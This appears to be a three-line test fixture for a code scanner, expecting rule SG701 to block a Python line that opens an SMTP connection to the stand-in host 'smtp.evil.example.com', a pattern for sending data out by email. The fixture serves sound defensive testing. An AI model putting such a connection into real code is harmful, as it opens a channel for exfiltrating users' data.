# expect: block SG701@3
import smtplib
server = smtplib.SMTP("smtp.evil.example.com", 25)
